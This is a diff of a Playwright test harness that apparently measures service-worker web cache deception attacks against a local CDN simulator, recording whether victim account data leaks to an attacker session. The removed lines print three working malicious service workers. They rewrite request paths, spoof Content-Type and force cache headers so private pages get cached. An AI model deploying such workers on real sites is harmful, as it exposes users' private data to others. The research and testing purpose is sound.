@@ -1,6 +1,9 @@
 import { test, expect } from '@playwright/test';
-import { TEST_CONFIG, validateTestParams, getCDNConfig, getAttackConfig } from './config.js';
+import { TEST_CONFIG, validateTestParams, getCDNBaseURL, getAttackConfig } from './config.js';
 import { TestUtils, validateResponseSafety } from './utils.js';
+import { buildSW } from '../sw/registry.js';
+import { getExpectedCacheability } from '../origin/strategies.js';
+import { buildMatrix, matrixTag } from './matrix.js';
 
 // SWRegistrar class - fixed to work in Playwright context
 class SWRegistrar {
@@ -49,6 +52,24 @@ class SWRegistrar {
     return result;
   }
 
+  // Ask the controlling worker which configuration it was built with
+  async getSWConfig(timeoutMs = 5000) {
+    return await this.page.evaluate(async (timeoutMs) => {
+      const controller = navigator.serviceWorker?.controller;
+      if (!controller) return null;
+
+      return await new Promise((resolve) => {
+        const channel = new MessageChannel();
+        const timer = setTimeout(() => resolve(null), timeoutMs);
+        channel.port1.onmessage = (event) => {
+          clearTimeout(timer);
+          resolve(event.data);
+        };
+        controller.postMessage({ type: 'sw-wcd-config' }, [channel.port2]);
+      });
+    }, timeoutMs);
+  }
+
   async waitForSWControl() {
     await this.page.waitForFunction(
       () => navigator.serviceWorker?.controller !== null,
@@ -57,212 +78,12 @@ class SWRegistrar {
   }
 }
 
-// Helper function to get SW code for blob registration
-function getSWLogic(attack) {
-  switch (attack) {
-    case 't1-path-sculpting':
-      return `
-        console.log('[SW-WCD-T1] Path Sculpting Service Worker loaded');
-        
-        self.addEventListener('install', (event) => {
-          console.log('[SW-WCD-T1] Installing');
-          event.waitUntil(self.skipWaiting());
-        });
-        
-        self.addEventListener('activate', (event) => {
-          console.log('[SW-WCD-T1] Activating and claiming clients');
-          event.waitUntil(clients.claim());
-        });
-        
-        self.addEventListener('fetch', (event) => {
-          const url = new URL(event.request.url);
-          
-          if (url.pathname === '/account' || url.pathname.startsWith('/api/user')) {
-            console.log('[SW-WCD-T1] Intercepting:', url.pathname);
-            
-            const deceptivePath = url.pathname + '/sw-wcd-cache.jpg';
-            const deceptiveURL = url.origin + deceptivePath + url.search;
-            
-            console.log('[SW-WCD-T1] Rewriting to:', deceptivePath);
-            
-            const modifiedRequest = new Request(deceptiveURL, {
-              method: event.request.method,
-              headers: event.request.headers,
-              credentials: 'include',
-              mode: 'cors'
-            });
-            
-            event.respondWith(
-              fetch(modifiedRequest)
-                .then(response => {
-                  if (!response.ok) {
-                    throw new Error(\`HTTP \${response.status}\`);
-                  }
-                  
-                  return response.text().then(body => {
-                    const modifiedHeaders = new Headers(response.headers);
-                    modifiedHeaders.delete('Set-Cookie');
-                    modifiedHeaders.set('Content-Type', 'image/jpeg');
-                    modifiedHeaders.set('X-SW-WCD-Attack', 'T1-Path-Sculpting');
-                    
-                    console.log('[SW-WCD-T1] Response modified with spoofed Content-Type');
-                    
-                    return new Response(body, {
-                      status: response.status,
-                      statusText: response.statusText,
-                      headers: modifiedHeaders
-                    });
-                  });
-                })
-                .catch(error => {
-                  console.error('[SW-WCD-T1] Attack failed:', error);
-                  return fetch(event.request);
-                })
-            );
-          }
-        });
-        
-        // Safety: Auto-unregister after 2 minutes
-        setTimeout(() => {
-          self.registration.unregister().then(success => {
-            console.log('[SW-WCD-T1] Safety auto-unregister:', success);
-          });
-        }, 120000);
-      `;
-    
-    case 't2-header-manipulation':
-      return `
-        console.log('[SW-WCD-T2] Header Manipulation Service Worker loaded');
-        
-        self.addEventListener('install', (event) => {
-          console.log('[SW-WCD-T2] Installing');
-          event.waitUntil(self.skipWaiting());
-        });
-        
-        self.addEventListener('activate', (event) => {
-          console.log('[SW-WCD-T2] Activating and claiming clients');
-          event.waitUntil(clients.claim());
-        });
-        
-        self.addEventListener('fetch', (event) => {
-          const url = new URL(event.request.url);
-          
-          if (url.pathname.startsWith('/api/')) {
-            console.log('[SW-WCD-T2] Intercepting API request:', url.pathname);
-            
-            const modifiedHeaders = new Headers(event.request.headers);
-            modifiedHeaders.set('X-Custom-Surrogate-Control', 'max-age=3600');
-            modifiedHeaders.set('X-Force-CDN-Cache', 'true');
-            
-            const modifiedRequest = new Request(event.request, {
-              headers: modifiedHeaders
-            });
-            
-            event.respondWith(
-              fetch(modifiedRequest)
-                .then(response => {
-                  const attackHeaders = new Headers(response.headers);
-                  attackHeaders.set('X-SW-WCD-Attack', 'T2-Header-Manipulation');
-                  
-                  return new Response(response.body, {
-                    status: response.status,
-                    statusText: response.statusText,
-                    headers: attackHeaders
-                  });
-                })
-                .catch(error => {
-                  console.error('[SW-WCD-T2] Attack failed:', error);
-                  return fetch(event.request);
-                })
-            );
-          }
-        });
-        
-        setTimeout(() => {
-          self.registration.unregister().then(success => {
-            console.log('[SW-WCD-T2] Safety auto-unregister:', success);
-          });
-        }, 120000);
-      `;
-    
-    case 't4-scope-misconfig':
-      return `
-        console.log('[SW-WCD-T4] Scope Misconfiguration Service Worker loaded');
-        
-        self.addEventListener('install', (event) => {
-          console.log('[SW-WCD-T4] Installing');
-          event.waitUntil(self.skipWaiting());
-        });
-        
-        self.addEventListener('activate', (event) => {
-          console.log('[SW-WCD-T4] Activating and claiming clients');
-          event.waitUntil(clients.claim());
-        });
-        
-        self.addEventListener('fetch', (event) => {
-          const url = new URL(event.request.url);
-          const match = url.pathname.match(/^\\\\/user\\\\/([^\\\\/]+)\\\\/profile$/);
-          
-          if (match) {
-            const [, userId] = match;
-            console.log(\`[SW-WCD-T4] Mapping user \${userId} profile to shared path\`);
-            
-            const sharedURL = url.origin + '/static/user-profile-cache' + url.search;
-            
-            const modifiedRequest = new Request(sharedURL, {
-              method: event.request.method,
-              headers: event.request.headers,
-              credentials: 'include',
-              mode: 'cors'
-            });
-            
-            event.respondWith(
-              fetch(modifiedRequest)
-                .then(response => {
-                  const attackHeaders = new Headers(response.headers);
-                  attackHeaders.set('X-SW-WCD-Attack', 'T4-Scope-Misconfig');
-                  attackHeaders.set('X-SW-WCD-User-ID', userId);
-                  
-                  console.log(\`[SW-WCD-T4] Served shared cache for user \${userId}\`);
-                  
-                  return new Response(response.body, {
-                    status: response.status,
-                    statusText: response.statusText,
-                    headers: attackHeaders
-                  });
-                })
-                .catch(error => {
-                  console.error('[SW-WCD-T4] Attack failed:', error);
-                  return fetch(event.request);
-                })
-            );
-          }
-        });
-        
-        setTimeout(() => {
-          self.registration.unregister().then(success => {
-            console.log('[SW-WCD-T4] Safety auto-unregister:', success);
-          });
-        }, 120000);
-      `;
-    
-    default:
-      return `// Unknown attack type: ${attack}`;
-  }
-}
-
-// Reduced test matrix for debugging
-/*
-const debugMatrix = [
-  { cdn: 'local', cdnConfig: 'default', browser: 'chromium', attack: 't1-path-sculpting', strategy: 'misconfigured' },
-];
-*/
-const debugMatrix = [
-  { cdn: 'local', cdnConfig: 'default', browser: 'chromium', attack: 't1-path-sculpting',  strategy: 'misconfigured' },
-  { cdn: 'local', cdnConfig: 'default', browser: 'chromium', attack: 't2-header-manipulation', strategy: 'misconfigured' },
-  { cdn: 'local', cdnConfig: 'default', browser: 'chromium', attack: 't4-scope-misconfig',   strategy: 'misconfigured' },
-];
+// Full factorial matrix, TRIALS_PER_CELL blocks in seeded random order
+// (narrow it with MATRIX_FILTER=attack=t1,strategy=missing)
+const matrix = buildMatrix();
 
+// Set by scripts/run-campaign.js; trials then complete that campaign's cells
+const CAMPAIGN_ID = process.env.CAMPAIGN_ID || null;
 
 // Safety validation
 const safetyWarnings = TestUtils.validateSafetyConstraints(TEST_CONFIG);
@@ -277,7 +98,7 @@ test.describe('SW-WCD Attack Matrix', () => {
     console.log(' Testing CDN simulator connectivity...');
     
     try {
-      const baseURL = 'https://cdn-simulator.local';
+      const baseURL = TEST_CONFIG.cdns.local.baseURL;
       const response = await page.goto(`${baseURL}/health`, { 
         waitUntil: 'networkidle',
         timeout: 10000 
@@ -308,33 +129,40 @@ test.describe('SW-WCD Attack Matrix', () => {
     }
   });
 
-  for (const testParams of debugMatrix) {
-    const { cdn, cdnConfig, browser, attack, strategy } = testParams;
-    const testName = `${cdn}-${cdnConfig}-${browser}-${attack}-${strategy}`;
+  for (const testParams of matrix) {
+    const { cdn, cdnConfig, browser, attack, strategy, cellId, repetition, block, sequence, seed } = testParams;
+    const testName = `${cellId} #${repetition}`;
 
-    test(testName, async ({ browser: playwrightBrowser }, testInfo) => {
-      // Skip conditions
-      if (cdn === 'local' && browser === 'webkit') {
-        testInfo.skip(true, 'WebKit not supported in local CDN simulator');
-        return;
-      }
+    // Tagged for the one project that runs it (playwright.config.js)
+    test(testName, { tag: matrixTag(testParams) }, async ({ browser: playwrightBrowser }, testInfo) => {
+      testInfo.annotations.push(
+        { type: 'block', description: String(block) },
+        { type: 'sequence', description: String(sequence) }
+      );
 
-      if (browser === 'webkit' && attack.startsWith('t1')) {
-        testInfo.skip(true, 'WebKit has limited blob SW support for path sculpting');
-        return;
+      // Skip conditions (permanent, so recorded against the campaign cell)
+      let skipReason = null;
+      if (cdn === 'local' && browser === 'webkit') {
+        skipReason = 'WebKit not supported in local CDN simulator';
+      } else if (browser === 'webkit' && attack.startsWith('t1')) {
+        skipReason = 'WebKit has limited blob SW support for path sculpting';
+      } else {
+        // Validate test parameters
+        try {
+          validateTestParams(testParams);
+        } catch (error) {
+          skipReason = error.message;
+        }
       }
 
-      // Validate test parameters
-      try {
-        validateTestParams(testParams);
-      } catch (error) {
-        testInfo.skip(true, error.message);
+      if (skipReason) {
+        await TestUtils.markCampaignCell(CAMPAIGN_ID, sequence, 'skipped', { reason: skipReason });
+        testInfo.skip(true, skipReason);
         return;
       }
 
       const trialId = TestUtils.generateTrialId();
       const startTime = Date.now();
-      const cdnConfigObj = getCDNConfig(cdn);
       const attackConfig = getAttackConfig(attack);
 
       console.log(`\n[TEST] Starting trial ${trialId}: ${testName}`);
@@ -344,14 +172,10 @@ test.describe('SW-WCD Attack Matrix', () => {
       const victimPage = await victimContext.newPage();
 
       try {
-        // Set authentication cookie
-        const authCookie = TestUtils.createAuthCookie(cdnConfigObj.testDomain);
-        await victimContext.addCookies([authCookie]);
-
         // Determine base URL - try CDN simulator first, fallback to origin
         let baseURL;
         try {
-          baseURL = testInfo.project.use.baseURL;
+          baseURL = getCDNBaseURL(cdn, cdnConfig);
           // Test connectivity
           await victimPage.goto(`${baseURL}/health`, { timeout: 5000 });
           console.log(`[TEST] Using CDN simulator: ${baseURL}`);
@@ -361,6 +185,11 @@ test.describe('SW-WCD Attack Matrix', () => {
           console.log(`[TEST] CDN simulator failed, using origin directly: ${baseURL}`);
         }
 
+        // Sign the victim in through the same host, so the session cookie
+        // is sent with every victim request
+        const victimSession = await TestUtils.login(victimContext.request, baseURL, TEST_CONFIG.users.victim);
+        console.log(`[TEST] Victim signed in as ${victimSession.user.id}`);
+
         // Navigate to base URL
         console.log(`[TEST] Navigating to base URL: ${baseURL}`);
         await victimPage.goto(baseURL, { 
@@ -372,9 +201,16 @@ test.describe('SW-WCD Attack Matrix', () => {
         const swRegistrar = new SWRegistrar(victimPage);
 
         // Register Service Worker using blob technique
-        const swCode = getSWLogic(attack);
-        const swBlob = new Blob([swCode], { type: 'application/javascript' });
-        const blobURL = URL.createObjectURL(swBlob);
+        // Same generated source the origin serves at /sw/:type
+        const swOverrides = {
+          trialId,
+          lifetimeSeconds: TEST_CONFIG.safety.swAutoUnregisterMinutes * 60
+        };
+        const swPayload = buildSW(attack, swOverrides);
+        const blobURL = await victimPage.evaluate((swCode) => {
+          const swBlob = new Blob([swCode], { type: 'application/javascript' });
+          return URL.createObjectURL(swBlob);
+        }, swPayload.source);
 
         console.log(`[TEST] Registering Service Worker for ${attack}...`);
         
@@ -390,7 +226,8 @@ test.describe('SW-WCD Attack Matrix', () => {
           
           // Fallback to URL-based registration
           try {
-            const swURL = `${baseURL}${attackConfig.swPath}`;
+            const swQuery = new URLSearchParams({ trial: trialId, lifetime: swOverrides.lifetimeSeconds });
+            const swURL = `${baseURL}${attackConfig.swPath}?${swQuery}`;
             console.log(`[TEST] Trying URL-based registration: ${swURL}`);
             await swRegistrar.registerSW(swURL, '/');
             await swRegistrar.waitForSWControl();
@@ -402,8 +239,11 @@ test.describe('SW-WCD Attack Matrix', () => {
           }
         }
 
+        const swReport = await swRegistrar.getSWConfig();
+        console.log(`[TEST] Worker reports configuration: ${JSON.stringify(swReport?.config)}`);
+
         // Trigger sensitive request (SW will intercept and modify)
-        const victimURL = `${baseURL}${attackConfig.targetPath}?strategy=${strategy}&trial=${trialId}`;
+        const victimURL = `${baseURL}${attackConfig.targetPath}?strategy=${encodeURIComponent(strategy)}&trial=${trialId}`;
         console.log(`[TEST] Victim requesting: ${victimURL}`);
         
         const victimResponse = await victimPage.goto(victimURL, { 
@@ -415,6 +255,7 @@ test.describe('SW-WCD Attack Matrix', () => {
           throw new Error('No response from victim request');
         }
 
+        const victimTiming = await TestUtils.getNavigationTiming(victimPage);
         const victimBody = await victimResponse.text();
         const victimMarker = await TestUtils.extractMarkerFromBody(victimPage, victimBody);
 
@@ -440,13 +281,18 @@ test.describe('SW-WCD Attack Matrix', () => {
         console.log(`[TEST] Waiting ${TEST_CONFIG.safety.trialDelayMs}ms for cache propagation...`);
         await TestUtils.delay(TEST_CONFIG.safety.trialDelayMs);
 
-        // Phase 3: Attacker Session (no authentication)
+        // Phase 3: Attacker Session (another user, or anonymous)
         const attackerContext = await playwrightBrowser.newContext();
         const attackerPage = await attackerContext.newPage();
 
         try {
+          const attackerSession = TEST_CONFIG.users.attacker
+            ? await TestUtils.login(attackerContext.request, baseURL, TEST_CONFIG.users.attacker)
+            : null;
+          console.log(`[TEST] Attacker ${attackerSession ? `signed in as ${attackerSession.user.id}` : 'is anonymous'}`);
+
           // Attacker requests the modified/deceptive URL
-          const attackerURL = `${baseURL}${attackConfig.modifiedPath || attackConfig.targetPath}?strategy=${strategy}&trial=${trialId}`;
+          const attackerURL = `${baseURL}${attackConfig.modifiedPath || attackConfig.targetPath}?strategy=${encodeURIComponent(strategy)}&trial=${trialId}`;
           console.log(`[TEST] Attacker requesting: ${attackerURL}`);
           
           const attackerResponse = await attackerPage.goto(attackerURL, {
@@ -458,12 +304,16 @@ test.describe('SW-WCD Attack Matrix', () => {
             throw new Error('No response from attacker request');
           }
 
+          const attackerTiming = await TestUtils.getNavigationTiming(attackerPage);
           const attackerBody = await attackerResponse.text();
           const attackerHeaders = attackerResponse.headers();
 
           // Parse CDN cache status
           const cacheStatus = TestUtils.parseCDNCacheStatus(attackerHeaders, cdn);
           const containsVictimData = victimMarker && attackerBody.includes(victimMarker);
+          // The victim's own account data (not just the page marker) in the attacker's response
+          const leakedFields = TestUtils.findAccountData(attackerBody, victimSession.account);
+          const crossUserLeak = leakedFields.length > 0;
 
           // Safety validation
           const safetyIssues = validateResponseSafety(attackerResponse);
@@ -473,9 +323,27 @@ test.describe('SW-WCD Attack Matrix', () => {
 
           // Determine attack success
           const attackSuccess = cacheStatus.hit && containsVictimData;
+          // What the strategy's headers alone should produce on this profile
+          const expectedCacheability = getExpectedCacheability(strategy, cdn, cdnConfig);
           const executionTime = Date.now() - startTime;
+          const phaseTimings = TestUtils.summarizePhaseTimings(victimTiming, attackerTiming);
 
           console.log(`[TEST] Results - Cache: ${cacheStatus.status}, Hit: ${cacheStatus.hit}, Victim Data: ${containsVictimData}, Success: ${attackSuccess}`);
+          console.log(`[TEST] Cross-user leak: ${crossUserLeak}${crossUserLeak ? ` (${leakedFields.join(', ')})` : ''}`);
+          console.log(`[TEST] Timings (ms) - Victim: ${phaseTimings.victim_fetch_ms}, SW: ${phaseTimings.sw_rewrite_ms}, Attacker TTFB: ${phaseTimings.attacker_ttfb_ms}`);
+
+          // What the worker actually did, from its telemetry; falls back to
+          // the URLs the test intended when no events reached the origin
+          let swActivity = null;
+          try {
+            const swEvents = await TestUtils.getSWEvents(trialId);
+            if (swEvents.length > 0) {
+              swActivity = TestUtils.summarizeSWEvents(swEvents);
+            }
+          } catch (telemetryError) {
+            console.error(`[TEST] Failed to read SW telemetry: ${telemetryError.message}`);
+          }
+          console.log(`[TEST] SW telemetry: ${swActivity ? `${swActivity.event_count} events, modified URL ${swActivity.modified_url}` : 'none'}`);
 
           // Phase 4: Log trial results to database
           const trialData = {
@@ -491,20 +359,30 @@ test.describe('SW-WCD Attack Matrix', () => {
               url: victimURL,
               status: victimResponse.status(),
               marker: victimMarker,
-              strategy: strategy
+              strategy: strategy,
+              user: victimSession.user.id,
+              origin_modes: TEST_CONFIG.originModes
             },
             sw_modified_request: {
-              original_url: victimURL,
-              modified_url: attackerURL,
-              attack_type: attack
+              ...(swActivity || {
+                source: 'test-assumed',
+                original_url: victimURL,
+                modified_url: attackerURL
+              }),
+              attack_type: attack,
+              payload_hash: swPayload.hash,
+              payload_config: swPayload.config,
+              reported_config: swReport?.config || null
             },
             cdn_response: {
               status: attackerResponse.status(),
               headers: attackerHeaders,
-              cache_status: cacheStatus
+              cache_status: cacheStatus,
+              expected_cacheability: expectedCacheability
             },
             attacker_request: {
-              authenticated: false,
+              authenticated: Boolean(attackerSession),
+              user: attackerSession?.user.id || 'anonymous',
               url: attackerURL
             },
             attack_outcome: {
@@ -512,11 +390,17 @@ test.describe('SW-WCD Attack Matrix', () => {
               cache_hit: cacheStatus.hit,
               victim_data_retrieved: containsVictimData,
               victim_marker: victimMarker,
+              cross_user_leak: crossUserLeak,
+              leaked_fields: leakedFields,
               time_to_cache_ms: TEST_CONFIG.safety.trialDelayMs,
               safety_issues: safetyIssues
             },
             execution_time_ms: executionTime,
-            notes: `Test: ${testName}`
+            phase_timings: phaseTimings,
+            block_number: block,
+            sequence_number: sequence,
+            campaign_id: CAMPAIGN_ID,
+            notes: `Test: ${testName} (matrix seed ${seed})`
           };
 
           try {
@@ -527,16 +411,24 @@ test.describe('SW-WCD Attack Matrix', () => {
             // Continue anyway - don't fail the test due to DB issues
           }
 
-          // Assertions based on expected behavior
-          if (strategy === 'proper') {
-            // With proper headers, attack should generally fail
-            expect(attackSuccess, 'Attack should not succeed with proper security headers').toBe(false);
+          // Same record in the JSON report, so test-results.json doubles as an
+          // offline dataset (analysis/data-sources.js reads 'sw-wcd-trial')
+          await testInfo.attach('sw-wcd-trial', {
+            body: JSON.stringify(trialData),
+            contentType: 'application/json'
+          });
+
+          // Assertions based on the catalogued expectation for this profile;
+          // compositions and stale/revalidated outcomes are only recorded. T4's
+          // static paths only carry user data with STATIC_USER_PATHS=shared-cache-path
+          const canLeak = !attack.startsWith('t4') || TEST_CONFIG.originModes.staticUserPaths === 'shared-cache-path';
+          if (expectedCacheability === 'not-cached') {
+            expect(attackSuccess, `Attack should not succeed when ${cdn}:${cdnConfig} does not cache ${strategy}`).toBe(false);
           }
-          else if (strategy === 'misconfigured') {
-            // Misconfigured CDN → attack should succeed
+          else if (expectedCacheability === 'cached' && canLeak) {
             expect(
               attackSuccess,
-              'Attack should succeed when CDN/origin is misconfigured'
+              `Attack should succeed when ${cdn}:${cdnConfig} caches ${strategy}`
             ).toBe(true);
           }
 
@@ -567,7 +459,7 @@ test.describe('SW-WCD Attack Matrix', () => {
     const swRegistrar = new SWRegistrar(page);
     
     // 1. Navigate first (Using HTTPS)
-    await page.goto('https://cdn-simulator.local/', { 
+    await page.goto(`${TEST_CONFIG.cdns.local.baseURL}/`, { 
       waitUntil: 'domcontentloaded',
       timeout: 10000 
     });
@@ -595,11 +487,11 @@ test.describe('SW-WCD Attack Matrix', () => {
   test('Rate Limiting', async ({ request }) => {
     console.log(' Testing rate limiting...');
     
-    const baseURL = 'https://cdn-simulator.local';
+    const baseURL = TEST_CONFIG.cdns.local.baseURL;
     const responses = [];
     
-    // Make rapid requests
-    for (let i = 0; i <20; i++) {
+    // Make rapid requests, one more than the origin allows per window
+    for (let i = 0; i <= TEST_CONFIG.safety.originRateLimit.max; i++) {
       try {
         const response = await request.get(`${baseURL}/health`);
         responses.push(response.status());
@@ -626,7 +518,7 @@ test.describe('Debug Helpers', () => {
     
     const testURLs = [
       'https://localhost:3443/health',
-      'https://cdn-simulator.local/health'
+      `${TEST_CONFIG.cdns.local.baseURL}/health`
     ];
     
     for (const url of testURLs) {
@@ -646,7 +538,7 @@ test.describe('Debug Helpers', () => {
   test('Check Service Worker Support', async ({ page, browserName }) => {
     console.log(` Checking Service Worker support in ${browserName}...`);
     
-    await page.goto('https://cdn-simulator.local/', { 
+    await page.goto(`${TEST_CONFIG.cdns.local.baseURL}/`, { 
       waitUntil: 'domcontentloaded',
       timeout: 10000 
     });